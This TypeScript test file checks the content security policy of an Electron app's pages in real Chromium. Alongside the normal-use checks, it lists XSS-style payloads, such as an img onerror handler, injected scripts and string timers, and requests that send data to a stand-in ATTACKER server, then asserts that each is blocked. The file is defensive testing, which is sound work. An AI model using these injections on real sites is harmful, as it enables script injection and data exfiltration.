import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { CallName, Handlers } from '../../common/protocol.ts'
import { loadStaticFiles } from '../../main/service/static-files.ts'
import { createSchemeHandler } from '../../main/shell/scheme.ts'
import { HOW_TO_GET_A_BROWSER, launchBrowser } from '../e2e/browser.ts'
import { createFakeApplication } from '../fakes/application.ts'
import { ROOT } from './start-fake.ts'

/** The very answers of `app://tidekeep`, over http, since only Electron's browser knows that scheme. */
async function servePages(): Promise<{ readonly origin: string; readonly server: Server }> {
  const handle = createSchemeHandler(await loadStaticFiles(join(ROOT, 'out', 'renderer')))
  return listen(async (url) => handle(new Request(`app://tidekeep${url}`)))
}

async function listen(answer: (url: string) => Promise<Response>) {
  const server = createServer((request, response) => {
    const respond = async (): Promise<void> => {
      const reply = await answer(request.url ?? '/')
      response.writeHead(reply.status, Object.fromEntries(reply.headers))
      response.end(Buffer.from(await reply.arrayBuffer()))
    }
    respond().catch((error: unknown) => response.destroy(error as Error))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` }
}

const browser = await launchBrowser()
if (browser === undefined) {
  console.log(`not run: content security policy in Chromium (${HOW_TO_GET_A_BROWSER})`)
  it('has a browser to try the policy in', () => expect(process.env['REQUIRE_REAL']).not.toBe('1'))
} else {
  describePolicy(browser)
}

function describePolicy(browser: Browser): void {
  describe('the content security policy of app://, in a real Chromium', () => {
    const stolen: string[] = []
    let pages: Awaited<ReturnType<typeof servePages>>
    let victim: Page
    let attacker: Awaited<ReturnType<typeof listen>>

    beforeAll(async () => {
      pages = await servePages()
      attacker = await listen((url) => {
        stolen.push(url)
        return Promise.resolve(new Response('window.pwned = 1', { headers: { 'access-control-allow-origin': '*' } }))
      })
      victim = await openPage('index.html')
    }, 30_000)
    afterAll(async () => {
      await browser.close()
      pages.server.close()
      attacker.server.close()
    })

    /** A page with the desktop's bridge, and every breach of its policy written down. */
    async function openPage(name: string): Promise<Page> {
      const application = createFakeApplication({ scenario: 'busy' })
      const page = await browser.newPage()
      await page.exposeFunction('answer', (call: CallName, params: never) =>
        (application.handlers as unknown as Record<string, Handlers['status.get']>)[call]?.(params, {
          transport: 'ipc',
        }),
      )
      await page.addInitScript(`
        window.breaches = []
        document.addEventListener('securitypolicyviolation', (event) => breaches.push(event.violatedDirective + ' ' + event.blockedURI + ' ' + event.sample))
        window.tidekeep = { call: (name, params) => answer(name, params), subscribe: (topic, listener) => { if (topic === 'status') answer('status.get', {}).then(listener); return () => {} } }
      `)
      await page.goto(`${pages.origin}/${name}`)
      await page.waitForSelector('#root > *')
      return page
    }

    const breaches = (page: Page): Promise<readonly string[]> => page.evaluate('breaches')

    it.each([
      'index.html#/folders',
      'index.html#/activity',
      'index.html#/settings',
      'index.html#/about',
      'index.html#/add',
      'popup.html',
    ])(
      'is not breached once by %s in normal use',
      async (name) => {
        const page = await openPage(name)
        await page.waitForLoadState('networkidle')
        expect(await breaches(page)).toEqual([])
        expect((await page.innerText('#root')).length).toBeGreaterThan(20)
        await page.close()
      },
      20_000,
    )

    it.each([
      [
        'an inline script',
        `const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)`,
      ],
      ['markup with a handler', `document.body.innerHTML = '<img src=x onerror="window.pwned = 1">'`],
      [
        'a handler attribute',
        `const b = document.createElement('b'); b.setAttribute('onclick', 'window.pwned = 1'); document.body.append(b); b.click()`,
      ],
      [
        'a script from elsewhere',
        `const s = document.createElement('script'); s.src = ATTACKER + '/x.js'; document.body.append(s)`,
      ],
      ['text run as a script later', `setTimeout('window.pwned = 1', 0)`],
      ['an image from elsewhere', `const i = new Image(); i.src = ATTACKER + '/x.png'; document.body.append(i)`],
      [
        'a style from elsewhere',
        `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ATTACKER + '/x.css'; document.head.append(l)`,
      ],
      ['a frame', `const f = document.createElement('iframe'); f.src = ATTACKER + '/frame'; document.body.append(f)`],
      [
        'a form',
        `const f = document.createElement('form'); f.action = ATTACKER + '/form'; f.method = 'post'; document.body.append(f); f.submit()`,
      ],
      [
        'a base address',
        `const b = document.createElement('base'); b.href = ATTACKER + '/'; document.head.append(b); if (document.baseURI.startsWith(ATTACKER)) window.pwned = 1`,
      ],
      ['fetch', `fetch(ATTACKER + '/fetch').catch(() => undefined)`],
      ['a beacon', `navigator.sendBeacon(ATTACKER + '/beacon', 'x')`],
      ['a web socket', `try { new WebSocket(ATTACKER.replace('http', 'ws')) } catch {}`],
      ['an event source', `new EventSource(ATTACKER + '/events')`],
      ['a worker', `try { new Worker(ATTACKER + '/worker.js') } catch {}`],
      [
        'a plug-in',
        `const o = document.createElement('object'); o.data = ATTACKER + '/object'; document.body.append(o)`,
      ],
    ])('stops %s', async (_what, attack) => {
      stolen.length = 0
      const script = `(() => { const ATTACKER = ${JSON.stringify(attacker.origin)}; breaches.length = 0; try { ${attack} } catch (error) { breaches.push('threw ' + error) } })()`
      await victim.evaluate(script)
      await expect.poll(() => breaches(victim)).not.toEqual([])
      await victim.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))')
      expect(await victim.evaluate('window.pwned')).toBeUndefined()
      expect(stolen).toEqual([])
    })
  })
}
